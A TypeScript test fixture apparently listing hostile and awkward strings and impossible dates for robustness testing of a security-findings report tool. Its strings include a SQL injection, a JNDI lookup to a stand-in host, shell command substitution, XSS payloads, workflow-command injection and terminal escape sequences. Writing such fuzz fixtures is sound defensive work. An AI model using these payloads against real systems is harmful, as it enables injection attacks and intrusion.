import { NASTY } from '../../core/reports/hostile.ts';

/** Texts that AWS, a person or an intruder could have chosen, and that some reader would obey or stumble over. */
export const TEXTS: readonly string[] = [
  ...NASTY.filter((text) => text.trim() !== ''),
  'constructor',
  'toString',
  'hasOwnProperty',
  '🔑👩‍💻🏴󠁧󠁢󠁳󠁣󠁴󠁿',
  'ｆｕｌｌ＝１＋１',
  'tag-longer-than-any-column '.repeat(40),
  'a\u0000b',
  "'; DROP TABLE findings; --",
  '${jndi:ldap://evil.example/x}',
  '$(touch /tmp/owned)`touch /tmp/owned`',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  '::warning file=x::workflow command',
  '\u001b[2J\u001b[H\u001bc',
  '\u2067\u2066rtl isolates\u2069',
  'zalgo Z̴̡̧a̸l̷g̶o̵',
];

/** Dates that no clock shows, and some that are none. */
export const DATES: readonly unknown[] = [
  '9999-12-31T23:59:59Z',
  '0001-01-01T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00.001Z',
  '2026-02-30T00:00:00Z',
  'yesterday',
  '',
  253_402_300_799,
  1e300,
  -1,
  null,
  {},
];

export function text(n: number): string {
  return TEXTS[n % TEXTS.length] ?? '';
}
